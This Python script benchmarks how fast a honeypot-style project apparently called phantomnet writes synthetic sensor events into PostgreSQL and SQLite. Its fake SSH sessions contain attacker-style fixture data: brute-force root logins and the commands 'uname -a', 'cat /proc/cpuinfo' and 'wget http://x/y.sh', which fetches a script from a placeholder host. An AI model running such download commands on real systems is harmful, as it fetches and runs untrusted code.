"""Ingest benchmark: events/s from MemoryBus through StorageWriter into each database.

    .venv/bin/python bench/ingest.py [--events 200000] [--pg postgresql://postgres@127.0.0.1:5432/postgres]
                                      [--only sqlite|postgresql]

A mixed stream (SSH sessions with logins and commands, HTTP requests, packets, flows,
detections, scores, heartbeats) from 2,000 source addresses is built first (not timed), then
published as fast as the bus accepts it; the clock stops when the writer has committed the
last event. PostgreSQL runs in its own temporary database (created and dropped here); SQLite
in a temporary directory. Prints one line per database; never asserts.
"""

from __future__ import annotations

import argparse
import asyncio
import os
import random
import tempfile
import time
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import asyncpg
from sqlalchemy import text

from phantomnet import events as ev
from phantomnet.bus.memory import MemoryBus
from phantomnet.storage.db import make_engine
from phantomnet.storage.migrate import upgrade
from phantomnet.storage.writer import StorageWriter

T0 = datetime(2026, 11, 1, tzinfo=UTC)
SSH = ev.SensorRef(node="bench", component="ssh")
HTTP = ev.SensorRef(node="bench", component="http")
MON = ev.SensorRef(node="bench", component="monitor")
DST = ev.Endpoint(ip="127.0.0.1", port=2222)


def _session(rng: random.Random, ip: str, t: datetime) -> list[Any]:
    sid, src = uuid.uuid4(), ev.Endpoint(ip=ip, port=rng.randrange(1024, 65535))
    env = {"sensor": SSH, "session_id": sid, "src": src, "dst": DST}
    out: list[Any] = [ev.ConnectionOpened(protocol="ssh", occurred_at=t, **env)]
    for i in range(rng.randrange(2, 8)):
        out.append(ev.AuthAttempt(protocol="ssh", username="root", password=f"pw{i}",
                                  accepted=i == 3, occurred_at=t, **env))  # fmt: skip
    for cmd in ("uname -a", "cat /proc/cpuinfo", "wget http://x/y.sh"):
        out.append(ev.CommandInput(protocol="ssh", command=cmd, occurred_at=t, **env))
    out.append(ev.Detection(rule="brute_force", severity="high", first_seen=t, last_seen=t, count=5,
                            summary="logins", detector="brute_force", sensor=SSH,
                            src=src, occurred_at=t))  # fmt: skip
    out.append(ev.Score(subject_event_id=out[1].event_id, subject_kind="auth.attempt", score=77.0,
                        level="HIGH", decision="ALERT", confidence=0.8, model_version="b",
                        sensor=SSH, src=src, occurred_at=t))  # fmt: skip
    out.append(ev.ConnectionClosed(protocol="ssh", occurred_at=t, **env))
    return out


def _noise(rng: random.Random, ip: str, t: datetime) -> list[Any]:
    src = ev.Endpoint(ip=ip, port=rng.randrange(1024, 65535))
    return [
        ev.NetworkPacket(transport="tcp", length=60, suspicious=rng.random() < 0.2,
                         sensor=MON, src=src, dst=DST, occurred_at=t),
        ev.NetworkFlow(transport="tcp", started_at=t, ended_at=t, packets_out=3, packets_in=2,
                       bytes_out=180, bytes_in=120, sensor=MON, src=src, dst=DST, occurred_at=t),
        ev.HttpRequest(method="GET", path="/wp-login.php", user_agent="curl/8", sensor=HTTP,
                       src=src, dst=DST, occurred_at=t),
    ]  # fmt: skip


def build(n: int, seed: int = 7) -> list[Any]:
    """About ``n`` mixed events (deterministic for a seed)."""
    rng = random.Random(seed)
    ips = [f"198.51.{i // 250}.{i % 250 + 1}" for i in range(2000)]
    out: list[Any] = []
    t = T0
    while len(out) < n:
        t += timedelta(milliseconds=5)
        ip = rng.choice(ips)
        out.extend(_session(rng, ip, t) if rng.random() < 0.3 else _noise(rng, ip, t))
        if len(out) % 5000 < 3:
            out.append(ev.SensorStatus(state="up", sensor=SSH, occurred_at=t, events=len(out)))
    return out[:n]


def _proc_cpu(pid: int) -> float:
    """CPU seconds (user + system) used so far by a local process (Linux /proc)."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


async def _server_cpu(engine: Any) -> float:
    """CPU seconds of the PostgreSQL backends serving this database (0 for SQLite)."""
    if engine.dialect.name != "postgresql":
        return 0.0
    q = text("SELECT pid FROM pg_stat_activity WHERE datname = current_database()")
    async with engine.connect() as conn:
        pids = [r[0] for r in await conn.execute(q)]
    return sum(_proc_cpu(p) for p in pids if Path(f"/proc/{p}").exists())


async def run_once(url: str, events: list[Any], batch_size: int) -> dict[str, Any]:
    """Wall seconds from first publish to last commit, CPU seconds, writer counters."""
    upgrade(url)
    engine = make_engine(url)
    bus = MemoryBus(queue_size=50_000)
    writer = StorageWriter(bus, engine, batch_size=batch_size)
    await writer.start()
    task = asyncio.create_task(writer.run())
    start, cpu0 = time.perf_counter(), time.process_time()
    await bus.publish_many(events)
    while writer.stored + writer.duplicates < len(events):
        await asyncio.sleep(0.01)
    elapsed, client_cpu = time.perf_counter() - start, time.process_time() - cpu0
    server_cpu = await _server_cpu(engine)  # pooled backends lived through the whole run
    task.cancel()
    await asyncio.gather(task, return_exceptions=True)
    await engine.dispose()
    return {"wall": elapsed, "client_cpu": client_cpu, "server_cpu": server_cpu,
            **writer.describe()}  # fmt: skip


async def _admin(pg: str, sql: str) -> None:
    conn = await asyncpg.connect(pg)
    try:
        await conn.execute(sql)
    finally:
        await conn.close()


def bench_postgres(pg: str, events: list[Any], batch_size: int) -> None:
    name = f"pn_bench_{uuid.uuid4().hex[:10]}"
    asyncio.run(_admin(pg, f'CREATE DATABASE "{name}"'))
    try:
        url = pg.rsplit("/", 1)[0] + f"/{name}"
        report("postgresql", len(events), asyncio.run(run_once(url, events, batch_size)))
    finally:
        asyncio.run(_admin(pg, f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))


def bench_sqlite(events: list[Any], batch_size: int) -> None:
    with tempfile.TemporaryDirectory(prefix="pn-bench-") as tmp:
        url = f"sqlite:///{Path(tmp) / 'bench.db'}"
        report("sqlite", len(events), asyncio.run(run_once(url, events, batch_size)))


def report(db: str, n: int, r: dict[str, Any]) -> None:
    """Wall rate, and the rate the CPU time used would allow on two dedicated cores
    (writer process and database server in parallel; SQLite runs inside the writer)."""
    busiest = max(r["client_cpu"], r["server_cpu"])
    print(f"{db:<11} {n:>8} events {r['wall']:6.2f} s wall {n / r['wall']:>8,.0f} ev/s | "
          f"cpu writer {r['client_cpu']:5.2f} s server {r['server_cpu']:5.2f} s -> "
          f"cpu-bound {n / busiest:>8,.0f} ev/s | stored={r['stored']} retries={r['retries']} "
          f"load={os.getloadavg()[0]:.1f}")  # fmt: skip


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, default=200_000)
    parser.add_argument("--batch-size", type=int, default=2000)
    parser.add_argument("--pg", default="postgresql://postgres@127.0.0.1:5432/postgres")
    parser.add_argument("--only", choices=("sqlite", "postgresql"))
    args = parser.parse_args()
    t = time.perf_counter()
    events = build(args.events)
    kinds: dict[str, int] = {}
    for e in events:
        kinds[e.kind] = kinds.get(e.kind, 0) + 1
    print(f"built {len(events)} events in {time.perf_counter() - t:.1f} s: {kinds}")
    if args.only != "sqlite":
        bench_postgres(args.pg, events, args.batch_size)
    if args.only != "postgresql":
        bench_sqlite(events, args.batch_size)


if __name__ == "__main__":
    main()
